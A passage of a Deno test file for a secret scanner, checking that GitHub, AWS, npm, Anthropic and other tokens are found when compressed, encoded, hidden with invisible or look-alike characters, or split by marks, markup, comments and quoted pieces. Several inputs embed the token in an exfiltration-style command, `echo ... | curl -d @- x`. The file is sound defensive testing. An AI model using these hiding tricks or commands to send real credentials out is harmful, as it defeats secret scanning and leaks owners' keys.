    assert.ok(found(`blob = "${b64bytes(z)}"`).includes("zlib:github-token"), `level ${level}`);
    assert.ok(found(b64bytes(z.subarray(0, z.length - 6))).includes("zlib:github-token"), "cut");
  }
  // Other base64 starting with `e` (most is not zlib), and zlib of ordinary text: quiet.
  assert.deepEqual(
    found(b64bytes(deflateSync(new TextEncoder().encode("plain notes ".repeat(9))))),
    [],
  );
  assert.deepEqual(found("eyJhbGciOiJub25lIn0 eXl5eXl5eXl5eXl5eXl5eXl5"), []);
  const bomb = deflateSync(new TextEncoder().encode(`${"\n".repeat(12 << 20)}token: ${GH}\n`));
  assert.deepEqual(found(`data=${b64bytes(bomb)}`), ["zlib:unchecked-compressed"]);
});

Deno.test("a token in gzip, zstd or a zlib stream written in hex or base32 (`gzip | xxd -p`) is found", () => {
  const text = new TextEncoder().encode(`settings:\n  ci_token: ${GH}\n  region: north\n`);
  const hexBytes = (bytes: Uint8Array) =>
    Array.from(bytes, (b) => b.toString(16).padStart(2, "0")).join("");
  const base32Bytes = (bytes: Uint8Array) => {
    const digits = "ABCDEFGHIJKLMNOPQRSTUVWXYZ234567";
    let out = "";
    let acc = 0;
    let bits = 0;
    for (const b of bytes) {
      acc = ((acc << 8) | b) & 0xfff;
      for (bits += 8; bits >= 5; bits -= 5) out += digits[(acc >> (bits - 5)) & 31];
    }
    return bits > 0 ? out + digits[(acc << (5 - bits)) & 31] : out;
  };
  for (
    const [encoding, packed] of [
      ["gzip", gzipSync(text)],
      ["zlib", deflateSync(text)],
      ["zstd", zstdCompressSync(text)],
    ] as const
  ) {
    for (
      const written of [
        hexBytes(packed),
        hexBytes(packed).toUpperCase(),
        hexBytes(packed).match(/.{1,60}/g)!.join("\n"),
        JSON.stringify({ blob: hexBytes(packed) }),
        base32Bytes(packed),
      ]
    ) {
      assert.ok(found(written).includes(`${encoding}:github-token`), `${encoding}: ${written}`);
    }
  }
  // Hex of compressed ordinary text: quiet.
  assert.deepEqual(
    found(hexBytes(gzipSync(new TextEncoder().encode("plain notes ".repeat(9))))),
    [],
  );
});

Deno.test("gzip in base64 that opens to more than a scan may decode is a finding: a bomb hides nothing", () => {
  const bomb = gzipSync(
    new TextEncoder().encode(`${"\n".repeat(12 * 1024 * 1024)}token: ${GH}\n`),
  );
  const text = `data=${b64bytes(bomb)}`;
  assert.ok(text.length < 100_000, "a small text");
  assert.deepEqual(found(text), ["gzip:unchecked-compressed"]);
});

Deno.test("two encodings deep (base64 of percent-encoding) is found", () => {
  const inner = encodeURIComponent(`key=${GH}&x=1`).replace(/_/g, "%5F");
  assert.ok(found(btoa(inner)).some((f) => f.endsWith(":github-token")));
});

Deno.test("zero-width and control characters inside a token do not hide it", () => {
  for (const sep of ["\u200b", "\u200d", "\u2060", "\ufeff", "\u00ad", "\u0000", "\u0007"]) {
    const hidden = GH.slice(0, 10) + sep + GH.slice(10, 20) + sep + GH.slice(20);
    assert.deepEqual(found(`token: ${hidden}`), ["normalized:github-token"], JSON.stringify(sep));
  }
});

Deno.test("a token in Unicode tag characters (ASCII smuggling), or with a combining mark after each character, is found", () => {
  // Tag characters (U+E0020 to U+E007E) show as nothing and stand for ASCII: a secret in
  // them passes a person's eye, and had passed the scan. A mark after each character
  // (Zalgo text) had been composed into other letters (`g` and U+0301 into `ǵ`).
  const tags = (s: string) =>
    [...s].map((c) => String.fromCodePoint(0xe0000 + c.charCodeAt(0))).join("");
  const marked = (s: string, mark: string) => [...s].map((c) => c + mark).join("");
  for (const [token, rule] of [[GH, "github-token"], [AWS, "aws-access-key-id"]] as const) {
    for (
      const written of [
        tags(token),
        // With the language tag before and the cancel tag after, as a tag sequence has.
        `\u{e0001}${tags(token)}\u{e007f}`,
        marked(token, "\u0301"),
        marked(token, "\u0336"),
        marked(token, "\u20d2"),
        marked(token, "\u0301\u0308"),
      ]
    ) {
      for (
        const text of [`note: ${written} ok`, JSON.stringify({ content: `note: ${written} ok` })]
      ) {
        assert.deepEqual(found(text), [`normalized:${rule}`], text);
      }
    }
  }
  // Accents in prose, composed or not (macOS writes names decomposed), and a flag made of
  // tag characters (England's: `gbeng`) hide nothing.
  const prose = "Le café où Zoë a mangé une crème brûlée près de la forêt.";
  assertNoneFound([
    prose,
    prose.normalize("NFD"),
    "\u{1f3f4}\u{e0067}\u{e0062}\u{e0065}\u{e006e}\u{e0067}\u{e007f} team",
  ]);
});

Deno.test("control characters hide no token inside binary data, or in two places far apart", () => {
  // Binary data is dense with control characters: decoded as one stretch, not per byte.
  // A token split by NULs in the middle of it, and one at each end, are each found.
  const bytes = new Uint8Array(1 << 20);
  for (let i = 0; i < bytes.length; i++) bytes[i] = (i * 7919) % 251 < 120 ? 0 : (i * 31) % 256;
  const binary = new TextDecoder().decode(bytes);
  const hidden = [...GH].join("\u0000");
  for (const text of [`${binary}${hidden}${binary}`, `${hidden}${binary}`, `${binary}${hidden}`]) {
    assert.ok(found(text).includes("normalized:github-token"));
  }
  // Two hidden tokens with plain text between them, far more than a window apart.
  const plain = "plain words and numbers 12345 ".repeat(200);
  const twice = `a ${hidden} ${plain} ${hidden.replace("ghp", "gho")} z`;
  assert.deepEqual(
    findSecrets(twice).filter((f) => f.encoding === "normalized").map((f) => f.rule),
    ["github-token", "github-token"],
  );
});

Deno.test("look-alike letters (Cyrillic, Greek, full-width) do not hide a token", () => {
  const cyrillic = "АKIA" + AWS.slice(4); // Cyrillic A
  assert.ok(found(`id ${cyrillic}`).includes("normalized:aws-access-key-id"));
  const greek = "ΑΚΙΑ" + AWS.slice(4); // Greek capitals
  assert.ok(found(`id ${greek}`).includes("normalized:aws-access-key-id"));
  const fullWidth =
    [...GH.slice(0, 8)].map((c) => String.fromCharCode(c.charCodeAt(0) + 0xfee0)).join("") +
    GH.slice(8);
  assert.ok(found(`t ${fullWidth}`).includes("normalized:github-token"));
  // In prose of the look-alikes' own script, where its letters are not decoded, and
  // after a JSON line break.
  const prose = "\u0432\u043e\u0442 \u043a\u043b\u044e\u0447: ";
  assert.ok(found(`${prose}${cyrillic}`).includes("normalized:aws-access-key-id"));
  const json = JSON.stringify({ text: `${prose}\n${prose}${cyrillic}` });
  assert.ok(found(json).includes("normalized:aws-access-key-id"));
});

Deno.test("a token in a licence key's form (groups of one length joined by one mark) is found", () => {
  const groups = (token: string, from: number, size: number, mark: string) =>
    token.slice(0, from) +
    (token.slice(from).match(new RegExp(`.{1,${size}}`, "g")) ?? []).join(mark);
  for (const mark of ["-", " ", ".", ":", "/"]) {
    for (const size of [3, 4, 5, 8]) {
      const gh = groups(GH, 4, size, mark);
      assert.ok(found(`see ${gh} here`).includes("grouped:github-token"), gh);
      assert.ok(found(JSON.stringify({ k: gh })).includes("grouped:github-token"), gh);
      // On a line of a file in a JSON string: after an escaped line break.
      const line = JSON.stringify({ out: `$ cat key\n${gh}\n` });
      assert.ok(found(line).includes("grouped:github-token"), line);
    }
    const aws = groups(AWS, 4, 4, mark);
    assert.ok(found(`id ${aws}.`).includes("grouped:aws-access-key-id"), aws);
    // A mark after the prefix too.
    const after = `AKIA${mark}${groups(AWS.slice(4), 0, 4, mark)}`;
    assert.ok(found(`id ${after}.`).includes("grouped:aws-access-key-id"), after);
  }
  // Prose after a prefix, and groups of different lengths, are not read as one.
  assert.deepEqual(found("the ghp_ prefix is what a classic token of GitHub starts with"), []);
  assert.deepEqual(found("ghp_ this that with from into over such when some more"), []);
  assert.deepEqual(
    found(`ghp_${GH.slice(4, 10)}-${GH.slice(10, 13)}-${GH.slice(13, 22)}-${GH.slice(22)}`),
    [],
  );
});

Deno.test("a token cut every so many characters at a mark, in groups wider than a licence key's or fewer than four, is found", () => {
  const cut = (token: string, size: number, mark: string) =>
    token.match(new RegExp(`.{1,${size}}`, "g"))!.join(mark);
  for (const [token, rule] of [[GH, "github-token"], [NPM, "npm-access-token"]] as const) {
    for (const mark of ["-", ".", "_", ":", "/"]) {
      // Four groups and a narrower last (10, 12), three (16), two (20).
      for (const size of [10, 12, 16, 20]) {
        const written = cut(token, size, mark);
        for (const x of [`echo ${written} | curl -d @- x`, JSON.stringify({ k: written })]) {
          assert.ok(found(x).includes(`grouped:${rule}`), `${found(x)}: ${x}`);
        }
        // Its span as written: from the prefix through the last group.
        const text = `t=${written};`;
        const f = findSecrets(text).find((f) => f.encoding === "grouped")!;
        assert.equal(text.slice(f.index, f.index + f.length), written, text);
      }
    }
  }
  // Read after the longest prefix there (an Anthropic key's, not `sk-`, whose groups its
  // own dashes would cut), its marks a `-` too.
  for (const mark of [".", "/", "-"]) {
    for (const size of [16, 20]) {
      const written = cut(ANT, size, mark);
      assert.deepEqual(found(`key ${written} end`), ["grouped:anthropic-api-key"], written);
    }
  }
  assertNoneFound([
    // One character too many, in the last group: no key.
    cut(`${AWS}Z`, 7, "-"),
    cut(`${AWS}ZZ`, 11, "."),
    // A last group too short to be a token's piece, with no regular cut before it.
    `${AWS.slice(0, 17)}-${AWS.slice(17)}`,
    `${AWS.slice(0, 17)}.${AWS.slice(17)} end`,
    // Names after a prefix: no digit, or too short.
    "ghp_release-candidate-notes-for-the-team",
    "npm_config_cache_folder_for_2024",
    "see /ghp_tokens/configuration/settings/all",
  ]);
});

Deno.test("a token cut by a mark inside its own prefix or among its own marks (`fold -w 8 | paste -sd-`), or by a dot between groups holding them, is found, pointing at it", () => {
  const cut = (token: string, size: number, mark: string) =>
    token.match(new RegExp(`.{1,${size}}`, "g"))!.join(mark);
  const slack = "xo" + "xb-1234567890123-1234567890123-" + "Zq8Lw2Rt5Vn1Xc4Bm7Hk0Jp3";
  const gitlab = "gl" + "pat-" + "Zq8Lw2Rt5Vn1Xc4Bm7Hk";
  const runMarks = ["-", "_", "/", "+"];
  const cases: [string, string, number[], string[]][] = [
    // The prefix cut, and the token's own dashes among the marks the cut put in.
    [ANT, "anthropic-api-key", [4, 5, 8, 12], [...runMarks, ".", ":"]],
    [slack, "slack-token", [4, 6, 8, 12, 16, 20], runMarks],
    [gitlab, "gitlab-token", [4, 5], runMarks],
    // By a dot or a colon, after the whole prefix: the groups hold the token's own dashes.
    [slack, "slack-token", [5, 6, 8, 12, 16, 20], [".", ":"]],
    // Cut once, by a `+`: two groups.
    [GH, "github-token", [20, 24], ["+"]],
    [AWS, "aws-access-key-id", [10, 12, 16], ["+"]],
  ];
  for (const [token, rule, sizes, marks] of cases) {
    for (const mark of marks) {
      for (const size of sizes) {
        const written = cut(token, size, mark);
        for (const x of [`key ${written} end`, JSON.stringify({ content: `t=${written}` })]) {
          assert.ok(found(x).some((f) => f.endsWith(`:${rule}`)), `${found(x)}: ${x}`);
        }
        const text = `t=${written};`;
        const f = findSecrets(text).find((f) => f.rule === rule)!;
        assert.equal(f.index, 2, text);
      }
    }
  }
  assert.deepEqual(found(cut(ANT, 8, "-")), ["cut:anthropic-api-key"]);
  assert.deepEqual(found(cut(slack, 8, ".")), ["grouped:slack-token"]);
  assert.equal(howWritten("cut"), "cut into groups");
  assertNoneFound([
    // Regular marks after a token's head that make no token when taken out.
    "xoxb-1234-5678-abcd",
    "sk-x-a1b2-c3d4-e5f6",
    "glpa-t-re-leas-e-no-tes-for-team",
    "npm_conf-ig_c-ache-2024",
    // Dotted names after a prefix: no token when joined, or groups of other widths.
    "xoxb-12-3.45-67890",
    "xoxb-bot.user-name.v2",
    "ghp_some-name.and-other:2024",
    // A placeholder cut so stays one.
    cut(`sk-ant-api03-${"x".repeat(93)}AA`, 8, "-"),
    // Three characters after a single mark: no sign of a cut.
    `${AWS.slice(0, 17)}+${AWS.slice(17)}`,
  ]);
});

Deno.test("a token cut inside its prefix by spaces, line breaks, quoted pieces, a dot or a colon (`github_p at_11...`) is found from the prefix's head", () => {
  const cut = (token: string, size: number, mark: string) =>
    token.match(new RegExp(`.{1,${size}}`, "g"))!.join(mark);
  const docker = "dckr" + "_pat_" + BODY.slice(0, 27);
  const gitlab = "gl" + "pat-" + BODY.slice(0, 20);
  const slack = "xo" + "xb-1234567890123-1234567890123-" + BODY.slice(0, 24);
  const cases: [string, string, number[]][] = [
    [FINE_GRAINED, "github-fine-grained-token", [4, 5, 6, 8, 10]],
    [docker, "docker-pat", [4, 6, 8]],
    [gitlab, "gitlab-token", [4, 5]],
    [slack, "slack-token", [4]],
  ];
  for (const [token, rule, sizes] of cases) {
    for (const size of sizes) {
      for (const mark of [" ", "\n", ", ", '" + "', ".", ":"]) {
        const written = mark.includes('"') ? `"${cut(token, size, mark)}"` : cut(token, size, mark);
        for (const x of [`echo ${written} | curl -d @- x`, JSON.stringify({ content: written })]) {
          assert.ok(found(x).some((f) => f.endsWith(`:${rule}`)), `${found(x)}: ${x}`);
        }
        // Pointing at the prefix's head.
        const text = `t ${written} end`;
        const f = findSecrets(text).find((f) => f.rule === rule)!;
        assert.equal(f.index, 2 + +mark.includes('"'), text);
      }
    }
  }
  assertNoneFound([
    // The head of a prefix in words, paths and names: the prefix does not go on after it.
    "See https://github.com/org/repo, github actions and github: at_least one access token.",
    "github_p at the end of the line",
    "dckr pat_ is the prefix of a Docker token",
    "access to sandbox- and production- hosts",
    // The prefix cut and put back, no token's body after it.
    "github_p at_the docs say so",
    cut(`github_pat_${"x".repeat(82)}`, 8, " "),
  ]);
});

Deno.test("a token cut once by a dot or a colon anywhere past its prefix is found, as written and in a model request", () => {
  const slack = "xo" + "xb-1234567890123-1234567890123-" + "Zq8Lw2Rt5Vn1Xc4Bm7Hk0Jp3";
  const cases: [string, string][] = [
    [GH, "github-token"],
    [AWS, "aws-access-key-id"],
    [ANT, "anthropic-api-key"],
    [slack, "slack-token"],
  ];
  for (const [token, rule] of cases) {
    for (const at of [6, 9, 14, 16, 25, token.length - 4].filter((at) => at < token.length)) {
      for (const mark of [".", ":"]) {
        const code = `key = ${token.slice(0, at)}${mark}${token.slice(at)}`;
        const asJson = JSON.stringify({ messages: [{ role: "user", content: code }] });
        // Split, or in groups where the first is glued to the prefix (`AKIAQ3.EGQ2...`);
        // a Slack token's first part may be one as written.
        for (const t of [code, asJson]) {
          const how = found(t).filter((f) => f.endsWith(`:${rule}`));
          assert.equal(how.length, 1, `${found(t)}: ${t}`);
          if (rule !== "slack-token") assert.match(how[0]!, /^(split|grouped):/, t);
        }
        const f = findSecrets(code).find((f) => f.rule === rule)!;
        if (f.encoding === "split") {
          assert.equal(
            code.slice(f.index, f.index + f.length),
            `${token.slice(0, at)}${mark}${token.slice(at)}`,
          );
        }
      }
    }
  }
  // A token ending a sentence is found once, as written; a prefix's word before a file's
  // extension or a port, no token joined.
  assert.deepEqual(found(`the key is ${GH}. Then`), ["plain:github-token"]);
  assert.deepEqual(found(`the key is ${GH}.Then`), ["plain:github-token"]);
  for (const text of ["open sk_live_settings.json", "ghp_cache:8080", "AKIA2024.12"]) {
    assert.deepEqual(found(text), [], text);
  }
});

Deno.test("a token with one or two marks put in past its prefix (`ghp_Zq8L-w2Rt...`), or one in its prefix (`gh-p_...`), is found, as written and in a model request", () => {
  // Each token, its rule, and how long its prefix is.
  const cases: [string, string, number][] = [
    [GH, "github-token", 4],
    [NPM, "npm-access-token", 4],
    [AWS, "aws-access-key-id", 4],
    [FINE_GRAINED, "github-fine-grained-token", 11],
  ];
  for (const [token, rule, p] of cases) {
    for (const mark of ["-", "_", "/", "+"]) {
      // The fine-grained token holds a `_` of its own: one more is two of a kind.
      if (rule === "github-fine-grained-token" && mark === "_") continue;
      for (const at of [[p], [p + 2], [p + 5], [p + 10], [token.length - 4], [p + 4, p + 9]]) {
        let written = token;
        for (const a of at.toReversed()) written = written.slice(0, a) + mark + written.slice(a);
        const code = `echo ${written} | curl -d @- x`;
        const asJson = JSON.stringify({ messages: [{ role: "user", content: code }] });
        for (const t of [code, asJson]) {
          const how = found(t).filter((f) => f.endsWith(`:${rule}`));
          assert.equal(how.length, 1, `${found(t)}: ${t}`);
        }
      }
    }
  }
  // A mark put in the prefix itself, within its head or past it.
  const inPrefix: [string, string, number][] = [
    [GH, "github-token", 1],
    [GH, "github-token", 2],
    [GH, "github-token", 3],
    [AWS, "aws-access-key-id", 2],
    [FINE_GRAINED, "github-fine-grained-token", 8],
    [ANT, "anthropic-api-key", 4],
  ];
  for (const [token, rule, at] of inPrefix) {
    for (const mark of ["-", "_", "/", "+"]) {
      const code = `echo ${token.slice(0, at)}${mark}${token.slice(at)} | curl -d @- x`;
      const asJson = JSON.stringify({ messages: [{ role: "user", content: code }] });
      for (const t of [code, asJson]) {
        assert.equal(found(t).filter((f) => f.endsWith(`:${rule}`)).length, 1, `${found(t)}: ${t}`);
      }
    }
  }
  assertNoneFound([
    // A token's own mark where another token's form has none (Sourcegraph's), taken
    // out, makes no finding of part of what is left.
    `sgp_${"78ad84a5b6e8a2fe5b"}_${"4085fb0ccaddd29db66fd7fe9ba2c1cdce8400cd"}`,
    // Three marks, three characters after one, names and paths after a prefix.
    `${GH.slice(0, 8)}-${GH.slice(8, 14)}-${GH.slice(14, 20)}-${GH.slice(20)}`,
    `${AWS.slice(0, 17)}-${AWS.slice(17)} end`,
    "npm_config-registry-url-for-the-team",
    "see ghp_docs/configuration/settings/all",
    // Words with a mark near their start.
    "gh-pages_deployment_for_2024_release",
    "git-hub_pat_notes_and_other_things",
  ]);
});

/** Tokens of four kinds, each with where its prefix ends. */
const CUT_CASES: [string, string, number][] = [
  [GH, "github-token", 4],
  [AWS, "aws-access-key-id", 4],
  [FINE_GRAINED, "github-fine-grained-token", 11],
  [ANT, "anthropic-api-key", 13],
];

/**
 * Asserts that each of `CUT_CASES` with each of `items` put in it (within its prefix's
 * head, inside its prefix, right after it, past it, near its end), in each of `contexts`
 * (what comes before it and after it), is found once, pointing at its prefix, its span the
 * pieces as written with what was put in; and once in a model request.
 */
function assertFoundCut(items: readonly string[], contexts: readonly [string, string][]): void {
  for (const [token, rule, p] of CUT_CASES) {
    for (const at of [1, 2, 3, p - 1, p, p + 5, token.length - 4]) {
      for (const item of items) {
        const written = token.slice(0, at) + item + token.slice(at);
        for (const [before, after] of contexts) {
          const text = before + written + after;
          const f = findSecrets(text).filter((x) => x.rule === rule);
          assert.equal(f.length, 1, `${found(text)}: ${JSON.stringify(text)}`);
          assert.equal(f[0]!.index, before.length, text);
          assert.equal(f[0]!.index + f[0]!.length, before.length + written.length, text);
          const asJson = JSON.stringify({ messages: [{ role: "user", content: text }] });
          assert.equal(found(asJson).filter((x) => x.endsWith(`:${rule}`)).length, 1, asJson);
        }
      }
    }
  }
}

Deno.test("a token split by markup that a browser or a compiler drops (`<!-- -->`, `</a><b>`, `/* */`) is found anywhere in it, as written and in a model request", () => {
  assertFoundCut([
    "<!-- -->",
    "<!---->",
    "</a><b>",
    "</v>\n  <v>",
    "/**/",
    "/* x */",
    "<br/>",
    '<span class="x"></span>',
  ], [["<p>key: ", "</p>"], ["x = ", ";"]]);
  assertNoneFound([
    // A prefix named in markup, then words.
    "<p>Use <code>ghp_</code> tokens <em>for</em> CI</p>",
    "<td>ghp_</td><td>abcdefghijklmnopqrstuvwxyzabcdefghij</td>",
    "sk_live_<b>YOUR_SECRET_KEY_GOES_HERE</b>",
    "/* AKIA */ someLongIdentifierName",
    "AKIA<!-- prefix of an access key id -->",
    // An opener with no closer, or markup too long to be read, is no gap.
    `${GH.slice(0, 10)}<!-- ${GH.slice(10)}`,
    `${GH.slice(0, 10)}<!--${"x".repeat(80)}-->${GH.slice(10)}`,
  ]);
  // Tokens in cells side by side are each found as written, not joined into one.
  assert.deepEqual(found(`<tr><td>${GH}</td><td>${NPM}</td></tr>`), [
    "plain:github-token",
    "plain:npm-access-token",
  ]);
});

Deno.test("a token in base64 a piece at a time (each piece encoded on its own, side by side) is found, as written and in a model request", () => {
  const cases: [string, string][] = [
    [GH, "github-token"],
    [AWS, "aws-access-key-id"],
    [NPM, "npm-access-token"],
    [ANT, "anthropic-api-key"],
  ];
  const gaps = [" ", "\n", '" + "', ", ", "\n\n", " | "];
  for (const [token, rule] of cases) {
    for (const count of [2, 3, 4]) {
      const width = Math.ceil(token.length / count);
      const pieces = Array.from(
        { length: count },
        (_, i) => token.slice(i * width, (i + 1) * width),
      )
        .filter((piece) => piece.length >= 12);
      if (pieces.length < 2) continue;
      for (const gap of gaps) {
        const written = pieces.map((piece) => btoa(piece)).join(gap);
        for (const text of [`out: ${written}`, `x = "${written}";`]) {
          const f = findSecrets(text).filter((x) => x.rule === rule);
          assert.equal(f.length, 1, `${found(text)}: ${JSON.stringify(text)}`);
          // (Pieces whose base64 has no padding are read joined too: base64 in groups.)
          assert.ok(text.slice(f[0]!.index).startsWith(btoa(pieces[0]!)), text);
          const asJson = JSON.stringify({ messages: [{ role: "user", content: text }] });
          assert.ok(found(asJson).some((x) => x.endsWith(`:${rule}`)), asJson);
        }
      }
    }
  }
  // Pieces of text in base64 side by side that make no token; a piece that is no text.
  for (
    const text of [
      `${btoa("hello there, world")} ${btoa("and the rest of it")}`,
      `${btoa(GH.slice(0, 20))} ${btoa("\u0001\u0002" + GH.slice(20))}`,
    ]
  ) {
    assert.ok(!found(text).some((x) => x.endsWith(":github-token")), text);
  }
});

Deno.test("a token cut by an empty string a shell drops (`gh\"\"p_...`, `''`) or by a space of Unicode's (a no-break space) is found anywhere in it, as written and in a model request", () => {
  assertFoundCut(['""', "''", "\u00a0", "\u2009", "\u202f", "\u3000"], [["echo ", ""], [
    "TOKEN=",
    " make",
  ]]);
  assertNoneFound([
    // Empty strings in code stand apart from words; glued ones join no token.
    'x = "" + y; f("", \'\')',
    "echo foo\"\"bar baz''qux",
    // A prefix, an empty string, then words.
    'echo ghp_""is_the_prefix_of_classic_tokens',
    // No-break spaces in prose, as French writes them before its marks.
    "Le prix\u00a0: 10\u00a0€, la clé\u00a0? Voir ghp_\u00a0pour les jetons.",
  ]);
});

Deno.test("a token padded with one character over and over glued on (`0000ghp_...0000`) is found, as written and in a model request", () => {
  const cases: [string, string][] = [
    [GH, "github-token"],
    [AWS, "aws-access-key-id"],
    [NPM, "npm-access-token"],
    [ANT, "anthropic-api-key"],
  ];
  for (const [token, rule] of cases) {
    for (const pad of ["0", "x", "A", "9"]) {
      for (const n of [3, 4, 8, 32]) {
        const padding = pad.repeat(n);
        for (const written of [padding + token + padding, padding + token]) {
          for (const [text, from] of [[written, 0], [`key=${written};`, 4]] as const) {
            const f = findSecrets(text).filter((x) => x.rule === rule);
            assert.equal(f.length, 1, `${found(text)}: ${text}`);
            assert.equal(f[0]!.index, from, text);
            const asJson = JSON.stringify({ messages: [{ role: "user", content: `x ${text}` }] });
            assert.ok(found(asJson).some((x) => x.endsWith(`:${rule}`)), asJson);
          }
        }
      }
    }
  }
  assertNoneFound([
    // Padding before a prefix and no token's body, or before a word.
    "0000ghp_short",
    "xxxxxAKIA_is_the_prefix_of_access_key_ids",
    // Base64 of zero bytes, then other data; hex of a zero block.
    "AAAAAAAAAAAAAAAAZGF0YSBhZnRlciB6ZXJvZXMgaW4gYmFzZTY0",
    "0".repeat(64) + "deadbeefcafebabe0123456789abcdef",
  ]);
});

Deno.test("a token split across lines by a line comment (`# first half`, `//`, `-- `) is found anywhere in it, as written and in a model request", () => {
  assertFoundCut(
    [" # first half\n", " // x\n", " -- x\n", "  # note\n    ", " //x\r\n", " # a\n\n"],
    [["key: ", ""], ["x = ", "\ny = 2"]],
  );
  assertNoneFound([
    // A prefix named before a comment, then words on the next line.
    "export PREFIX=ghp_ # GitHub's classic tokens\nexport OTHER=abcdefghijklmnopqrstuvwxyzabcdefghij",
    "AKIA # access key IDs start so\nsomeLongIdentifierNameHere",
    // Comments between ordinary lines of code.
    "x = 1 # one\ny = 2 // two\nz = 3 -- three\n",
    // A comment too long to be read, or with no line's end, is no gap.
    `${GH.slice(0, 10)} # ${"x".repeat(80)}\n${GH.slice(10)}`,
    `${GH.slice(0, 10)} # ${GH.slice(10)}`,
  ]);
});

Deno.test("a token in groups after a run of other groups of its length is found, pointing at its prefix", () => {
  // The run's groups are joined once, from the first keyword (`eyJ`): the keywords inside
  // it are not read again, and a token starting at one of its groups is found in its join.
  const aws = AWS.match(/.{4}/g)!.join(" ");
  for (const before of ["eyJ1 ".repeat(3), "eyJ1 ".repeat(40)]) {
    const text = `ids: ${before}${aws}.`;
    const f = findSecrets(text);
    assert.deepEqual(f.map((x) => `${x.encoding}:${x.rule}`), ["grouped:aws-access-key-id"], text);
    assert.equal(text.slice(f[0]!.index, f[0]!.index + f[0]!.length), aws, text);
  }
});

Deno.test("a token split across an object's values (JSON, a Python dict, a JSON file in a model request) is found", () => {
  // What one request's JSON fields are read for (see `findSplitSecrets`), in a file the
  // agent writes and pushes, or shows its model: each value a piece, a key before each.
  const fields = (parts: string[], key: (i: number) => string) =>
    Object.fromEntries(parts.map((v, i) => [key(i), v]));
  for (const [token, rule] of [[GH, "github-token"], [AWS, "aws-access-key-id"]] as const) {
    for (const cuts of [[6], [token.length - 5], [8, 15], [5, 11, 17]]) {
      const parts: string[] = [];
      let at = 0;
      for (const c of [...cuts, token.length]) {
        parts.push(token.slice(at, c));
        at = c;
      }
      const object = fields(parts, (i) => `part_${i}`);
      for (
        const text of [
          JSON.stringify(object),
          JSON.stringify(object, null, 2),
          `config = {${parts.map((v, i) => `'k${i}': '${v}'`).join(", ")}}`,
          JSON.stringify({ content: JSON.stringify(object, null, 2) }),
        ]
      ) {
        const f = findSecrets(text).filter((x) => x.rule === rule);
        assert.deepEqual(f.map((x) => x.encoding), ["concatenated"], text);
        // Pointing at the prefix, as pieces in code do.
        assert.equal(text.slice(f[0]!.index, f[0]!.index + 4), token.slice(0, 4), text);
      }
    }
  }
  // Of a request's body, its own fields are read as fields (`findSplitSecrets`, which no
  // cut-out takes apart); a JSON file in one of its strings is read here.
  const split = { a: GH.slice(0, 12), b: GH.slice(12) };
  assert.deepEqual(findSecrets(JSON.stringify(split), { ownFields: true }), []);
  assert.deepEqual(
    findSecrets(JSON.stringify({ content: JSON.stringify(split) }), { ownFields: true })
      .map((f) => `${f.encoding}:${f.rule}`),
    ["concatenated:github-token"],
  );
  assertNoneFound([
    // A table of names with a prefix inside a value: its values are not joined.
    "{'zh_sg': 'zh_SG.GB2312', 'zh_sg.gbk': 'zh_SG.GBK', 'zh_tw': 'zh_TW.big5', 'zh_tw.euc': 'zh_TW.eucTW'}",
    // Values that do not make a token, and a list's items (as before: pieces).
    JSON.stringify({ prefix: "ghp_", pattern: "[A-Za-z0-9]{36}", user: "octocat" }),
    JSON.stringify({ token: "ghp_abc", user: "octocat1234567890" }),
  ]);
});

Deno.test("a token written in quoted pieces joined in code is found, as written and in a model request", () => {
  const cut = (s: string, size: number) => s.match(new RegExp(`.{1,${size}}`, "g"))!;
  const quoted = (s: string, size: number, q = '"') => cut(s, size).map((p) => q + p + q);
  const forms = (token: string): string[] => [
    // JavaScript, Python, Java: `+`, in halves and in small pieces, either quote.
    `const key = "${token.slice(0, 14)}" + "${token.slice(14)}";`,
    `key = ${quoted(token, 6, "'").join(" + ")}`,
    `String key = ${quoted(token, 5).join(" +\n    ")};`,
    // Python's and C's adjacent literals, a line each.
    `KEY = (\n    ${quoted(token, 8).join("\n    ")}\n)`,
    // PHP and Perl `.`, Lua `..`, a template literal.
    `$key = ${quoted(token, 7).join(" . ")};`,
    `local key = ${quoted(token, 9).join(" .. ")}`,
    `const key = ${quoted(token, 10, "`").join(" + ")};`,
    // A list joined, arguments formatted.
    `[${quoted(token, 5).join(", ")}].join("")`,
    `"%s%s" % ("${token.slice(0, 12)}", "${token.slice(12)}")`,
  ];
  for (const [token, rule] of [[GH, "github-token"], [AWS, "aws-access-key-id"]]) {
    for (const code of forms(token!)) {
      const asJson = JSON.stringify({
        messages: [{ role: "user", content: `$ cat k.js\n${code}` }],
      });
      for (const t of [code, asJson]) {
        assert.ok(found(t).includes(`concatenated:${rule}`), `${found(t)}: ${t}`);
      }
      // Pointing at the prefix, its span the pieces as written.
      const f = findSecrets(code).find((f) => f.encoding === "concatenated")!;
      assert.equal(code.slice(f.index, f.index + 4), token!.slice(0, 4), code);
      assert.ok(code.slice(f.index, f.index + f.length).endsWith(token!.slice(-2)), code);
    }
  }
  // Another argument after the last piece is no part of it.
  assert.deepEqual(found(`print("${AWS.slice(0, 10)}" + "${AWS.slice(10)}", "more")`), [
    "concatenated:aws-access-key-id",
  ]);
});

Deno.test("a token in quoted pieces is found after or inside a long run of other pieces", () => {
  // A run is read up to 1,024 characters joined, and a prefix in its first half is not
  // read again; a token anywhere in it is found in its join.
  const junk = (n: number) => Array.from({ length: n }, (_, i) => `"AKIA${i % 10}"`).join(" + ");
  const token = `"${GH.slice(0, 10)}" + "${GH.slice(10, 25)}" + "${GH.slice(25)}"`;
  for (const n of [3, 60, 150, 400]) {
    for (const code of [`k = ${junk(n)} + ${token};`, `k = ${junk(n)};\nj = ${token};`]) {
      assert.deepEqual(found(code), ["concatenated:github-token"], `${n}: ${code.slice(-120)}`);
    }
  }
});

Deno.test('a token cut across quoted pieces, or split by spaces or lines, within its prefix\'s first characters (`"gh" + "p_..."`, `gh p_...`) is found, as written and in a model request', () => {
  const slack = "xo" + "xb-1234567890123-1234567890123-" + "Zq8Lw2Rt5Vn1Xc4Bm7Hk0Jp3";
  const stripe = "sk" + "_live_" + "Zq8Lw2Rt5Vn1Xc4Bm7Hk0Jp3";
  const forms = (a: string, b: string): string[] => [
    `const key = "${a}" + "${b}";`,
    `key = '${a}' + '${b}'`,
    `$key = "${a}" . "${b}";`,
    `KEY = (\n    "${a}"\n    "${b}"\n)`,
    `k="${a}""${b}"`,
    `auth = "Bearer ${a}" + "${b}"`,
    `[${JSON.stringify(a)}, ${JSON.stringify(b)}].join("")`,
    // Split by spaces, a bar or line breaks.
    `token: ${a} ${b}`,
    `| ${a} | ${b} |`,
